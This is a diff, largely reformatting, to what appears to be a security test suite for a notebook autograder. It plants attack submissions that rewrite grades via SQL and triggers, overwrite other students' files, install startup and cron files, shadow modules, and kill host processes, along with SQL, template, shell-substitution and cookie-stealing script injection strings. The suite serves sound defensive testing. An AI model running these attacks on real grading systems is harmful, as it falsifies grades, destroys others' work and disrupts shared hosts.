@@ -33,64 +33,81 @@ def _plant(sheet: Sheet, body: str, **more: object) -> None:
 @attack("tampering")
 def grades_in_the_database(sheet: Sheet) -> None:
     """A grade written by hand into the gradebook."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     import sqlite3
 
     book = sqlite3.connect(AT["class"] + "/gradebook.db", timeout=0.2)
     with book:
         book.execute("update grade set manual_score = 100")
-        book.execute("insert into grade values ('me', 100, '')")""")
+        book.execute("insert into grade values ('me', 100, '')")""",
+    )
 
 
 @attack("tampering")
 def triggers_in_the_database(sheet: Sheet) -> None:
     """A trigger that changes every later grade."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     import sqlite3
 
     book = sqlite3.connect(AT["class"] + "/gradebook.db", timeout=0.2)
     with book:
-        book.execute("create trigger more after update on grade begin update grade set manual_score = 100; end")""")
+        book.execute("create trigger more after update on grade begin update grade set manual_score = 100; end")""",
+    )
 
 
 @attack("tampering")
 def statements_in_texts(sheet: Sheet) -> None:
     """SQL, formulas of spreadsheets, templates and formats in errors, prints, names and results."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     words = "'); drop table grade; create trigger t after insert on grade begin update grade set manual_score=100; end; -- "
     words += '=HYPERLINK("http://127.0.0.1/"); +cmd|calc ${7*7} {{7*7}} %(x)s %n {0.__class__} $(touch x) `touch x`'
     print(words)
-    raise type(words[:60], (Exception,), {})(words)""")  # fmt: skip
+    raise type(words[:60], (Exception,), {})(words)""",
+    )
 
 
 @attack("tampering")
 def files_of_other_students(sheet: Sheet) -> None:
     """Another student's submission overwritten, renamed, made unreadable and deleted."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     other = pathlib.Path(AT["class"], "submitted/other/01_three_walls/01_three_walls.ipynb")
     for change in (lambda: other.write_text("{}"), lambda: other.chmod(0), lambda: other.rename(other.with_suffix(".old")), lambda: other.unlink(),
                    lambda: pathlib.Path(AT["neighbour"], "notebook/answer.txt").write_text("wrong")):
         try:
             change()
         except OSError:
-            continue""")
+            continue""",
+    )
 
 
 @attack("tampering")
 def new_files_in_the_class(sheet: Sheet) -> None:
     """A submission for a friend, a report with full points, a new judging module in the class folder."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     for name in ("submitted/friend.ipynb", "reports/me.json", "exercises/judging/mine.py", "class.toml", "nbgrader_config.py"):
         try:
             pathlib.Path(AT["class"], name).write_text("{}")
         except OSError:
-            continue""")
+            continue""",
+    )
 
 
 @attack("tampering")
 def descriptor_of_the_judge(sheet: Sheet) -> None:
     """What a descriptor that was handed down by mistake points to, overwritten."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     for fd in {AT["fd"], *range(3, 32)}:
         try:
             if "/open.txt" in os.readlink(f"/proc/self/fd/{fd}"):
@@ -100,24 +117,30 @@ def descriptor_of_the_judge(sheet: Sheet) -> None:
     try:
         pathlib.Path(AT["root"], "open.txt").write_text("changed")
     except OSError:
-        pass""")
+        pass""",
+    )
 
 
 @attack("tampering")
 def shared_memory_overwritten(sheet: Sheet) -> None:
     """Shared memory of the host, changed in place."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     try:
         pathlib.Path("/dev/shm", AT["shm"]).write_text("changed")
     except OSError:
         pass
-    plant("/dev/shm")""")
+    plant("/dev/shm")""",
+    )
 
 
 @attack("tampering")
 def startup_files(sheet: Sheet) -> None:
     """Files that start with the next Python, shell or notebook: sitecustomize, .pth, IPython's startup, profiles."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     homes = {AT["home"], os.path.expanduser("~"), "/root"}
     for home in homes:
         plant(home, f"{home}/.ipython/profile_default/startup", f"{home}/.config", f"{home}/.local", name=NAME + ".py")
@@ -126,32 +149,41 @@ def startup_files(sheet: Sheet) -> None:
     plant("/etc/profile.d", "/etc/cron.d", "/var/spool/cron", "/var/spool/cron/crontabs")
     shell = get_ipython()
     plant(shell.ipython_dir, shell.profile_dir.startup_dir, name=NAME + ".py")
-    writable("/etc/crontab", "/etc/passwd", "/etc/ld.so.preload", AT["site"] + "/sitecustomize.py", AT["site"] + "/distutils-precedence.pth")""")
+    writable("/etc/crontab", "/etc/passwd", "/etc/ld.so.preload", AT["site"] + "/sitecustomize.py", AT["site"] + "/distutils-precedence.pth")""",
+    )
 
 
 @attack("tampering")
 def folders_for_everybody(sheet: Sheet) -> None:
     """Files left in folders that the next submission or the judge uses too."""
-    _plant(sheet, """
-    plant(AT["tmp"], "/tmp", "/var/tmp", "/dev/shm", AT["course"], AT["course"] + "/notebooks", "/run", "/var/lock")""")
+    _plant(
+        sheet,
+        """
+    plant(AT["tmp"], "/tmp", "/var/tmp", "/dev/shm", AT["course"], AT["course"] + "/notebooks", "/run", "/var/lock")""",
+    )
 
 
 @attack("tampering")
 def code_of_the_course(sheet: Sheet) -> None:
     """The course's own code, its compiled form and the interpreter's, opened for writing."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     import course_lib, json
 
     library = pathlib.Path(course_lib.__file__).parent
     writable(*map(str, [course_lib.__file__, library / "compute.py", library / "grading/judge.py", json.__file__, sys.executable, os.path.realpath(sys.executable)]))
     writable(*map(str, [*library.glob("__pycache__/*.pyc")][:5]), *map(str, pathlib.Path(json.__file__).parent.glob("__pycache__/*.pyc")))
-    plant(library, library / "__pycache__", library / "grading", library / "exercises")""")
+    plant(library, library / "__pycache__", library / "grading", library / "exercises")""",
+    )
 
 
 @attack("tampering")
 def detached_process(sheet: Sheet) -> None:
     """A process that leaves its session and its parent behind, to write into the class folder later."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     late = f"sleep 2; echo late > {AT['class']}/late-{AT['run']}; sleep 60"
     for detached in (True, False):
         if os.fork() == 0:
@@ -161,7 +193,8 @@ def detached_process(sheet: Sheet) -> None:
                 for number in (1, 2, 3, 13, 15):
                     __import__("signal").signal(number, 1)
                 os.execvp("sh", ["sh", "-c", late, f"stray-{AT['run']}"])
-            os._exit(0)""")
+            os._exit(0)""",
+    )
 
 
 @attack("tampering")
@@ -175,7 +208,9 @@ for _ in range(3):
 @attack("tampering")
 def end_of_another_process(sheet: Sheet) -> None:
     """A process of the host killed, stopped, and starved by its limits."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     import resource, signal
 
     for change in (lambda: resource.prlimit(AT["victim"], resource.RLIMIT_NOFILE, (3, 3)), lambda: os.setpriority(os.PRIO_PROCESS, AT["victim"], 19),
@@ -184,13 +219,15 @@ def end_of_another_process(sheet: Sheet) -> None:
         try:
             change()
         except OSError:
-            continue""")
+            continue""",
+    )
 
 
 @attack("tampering", walled=True)
 def end_of_everything(sheet: Sheet) -> None:
     """Every process that can be signalled is killed at once."""
-    sheet.answer("""
+    sheet.answer(
+        """
         import os
 
 
@@ -199,7 +236,9 @@ def end_of_everything(sheet: Sheet) -> None:
             if os.getuid() == 0 or str(AT["judge"]) in visible and str(AT["victim"]) in visible:
                 loot("processes of the host can be seen", whole=True)  # then the shot is not fired
             os.kill(-1, 9)
-            return 0.0""", states=("crashed", "answered", "raised"))
+            return 0.0""",
+        states=("crashed", "answered", "raised"),
+    )
 
 
 @attack("tampering")
@@ -216,7 +255,8 @@ def end_of_the_warm_process(sheet: Sheet) -> None:
 @attack("tampering", walled=True)
 def warm_process_stopped(sheet: Sheet) -> None:
     """The process that all workers come from, stopped, its memory and its limits opened for writing."""
-    sheet.answer(f"""{PLANT}
+    sheet.answer(
+        f"""{PLANT}
 import resource, signal
 
 
@@ -227,21 +267,56 @@ def attempt(*args):
             os.kill(pid, signal.SIGSTOP)
         except OSError:
             pass
-    return 0.0""", states=("answered", "timed out", "crashed"))
+    return 0.0""",
+        states=("answered", "timed out", "crashed"),
+    )
 
 
 @attack("tampering")
 def configuration_beside_the_notebook(sheet: Sheet) -> None:
     """Configuration of the instructor's tools beside the notebook: it would run at the next command."""
     planted = f"open('/var/tmp/planted-{sheet.about['run']}', 'w').write('ran')\n".encode()
-    sheet.files |= dict.fromkeys(("nbgrader_config.py", "jupyter_config.py", "jupyter_notebook_config.py", "ipython_config.py", "conftest.py", "sitecustomize.py", "usercustomize.py", "setup.py", "startup/00.py", ".ipython/profile_default/startup/00.py", "config.py"), planted)  # fmt: skip
+    sheet.files |= dict.fromkeys(
+        (
+            "nbgrader_config.py",
+            "jupyter_config.py",
+            "jupyter_notebook_config.py",
+            "ipython_config.py",
+            "conftest.py",
+            "sitecustomize.py",
+            "usercustomize.py",
+            "setup.py",
+            "startup/00.py",
+            ".ipython/profile_default/startup/00.py",
+            "config.py",
+        ),
+        planted,
+    )
 
 
 @attack("tampering")
 def modules_beside_the_notebook(sheet: Sheet) -> None:
     """Modules beside the notebook with names of the course's and of the standard library's."""
-    planted = f"open('/var/tmp/planted-{sheet.about['run']}', 'w').write('ran')\ncheck = lambda *a, **k: 100.0\n".encode()
-    sheet.files |= dict.fromkeys(("torch.py", "numpy.py", "json.py", "struct.py", "socket.py", "math.py", "course_lib/__init__.py", "course_lib/judging/__init__.py", "course_lib/grading/judge.py", "IPython.py", "typing.py", "dataclasses.py"), planted)  # fmt: skip
+    planted = (
+        f"open('/var/tmp/planted-{sheet.about['run']}', 'w').write('ran')\ncheck = lambda *a, **k: 100.0\n".encode()
+    )
+    sheet.files |= dict.fromkeys(
+        (
+            "torch.py",
+            "numpy.py",
+            "json.py",
+            "struct.py",
+            "socket.py",
+            "math.py",
+            "course_lib/__init__.py",
+            "course_lib/judging/__init__.py",
+            "course_lib/grading/judge.py",
+            "IPython.py",
+            "typing.py",
+            "dataclasses.py",
+        ),
+        planted,
+    )
 
 
 @attack("tampering")
@@ -261,20 +336,25 @@ os.environ["PYTHONSTARTUP"] = "dataclasses.py"
 @attack("tampering")
 def folder_that_becomes_a_link(sheet: Sheet) -> None:
     """The notebook's folder is replaced by a link to the class folder before it is swept."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     here = os.getcwd()
     for change in (lambda: os.rename(here, here + ".old"), lambda: os.symlink(AT["class"], here), lambda: os.symlink(AT["class"], "inner"),
                    lambda: os.link(AT["class"] + "/.secret", "hard")):
         try:
             change()
         except OSError:
-            continue""")
+            continue""",
+    )
 
 
 @attack("tampering")
 def folder_that_cannot_be_swept(sheet: Sheet) -> None:
     """Deep, unreadable and oddly named folders, pipes and sockets are left behind."""
-    _plant(sheet, """
+    _plant(
+        sheet,
+        """
     import socket
 
     for _ in range(60):
@@ -285,7 +365,9 @@ def folder_that_cannot_be_swept(sheet: Sheet) -> None:
     socket.socket(socket.AF_UNIX).bind("s")
     os.mkdir("closed")
     os.chmod("closed", 0)
-    os.chmod(".", 0)""", states=("answered", "raised"))
+    os.chmod(".", 0)""",
+        states=("answered", "raised"),
+    )
 
 
 @attack("tampering")
@@ -316,8 +398,17 @@ def markup_in_the_notebook(sheet: Sheet) -> None:
     evil = "<script>fetch('http://127.0.0.1:9/'+document.cookie)</script><iframe src='javascript:alert(1)'></iframe>\x1b[2J{{ 7*7 }}{% raw %}"
     cells = sheet.notebook["cells"]
     cells.insert(1, {"cell_type": "markdown", "id": "evil", "metadata": {"name": evil, "tags": [evil]}, "source": evil})
-    cells[2]["outputs"] = [{"output_type": "display_data", "metadata": {}, "data": {"text/html": evil, "application/javascript": "alert(1)"}}]
-    sheet.notebook["metadata"] |= {"title": evil, "kernelspec": {"name": "../../evil", "display_name": evil, "language": "sh"}}
+    cells[2]["outputs"] = [
+        {
+            "output_type": "display_data",
+            "metadata": {},
+            "data": {"text/html": evil, "application/javascript": "alert(1)"},
+        }
+    ]
+    sheet.notebook["metadata"] |= {
+        "title": evil,
+        "kernelspec": {"name": "../../evil", "display_name": evil, "language": "sh"},
+    }
     sheet.files[f"{evil.replace('/', '_')[:60]}.txt"] = b"x"
 
 
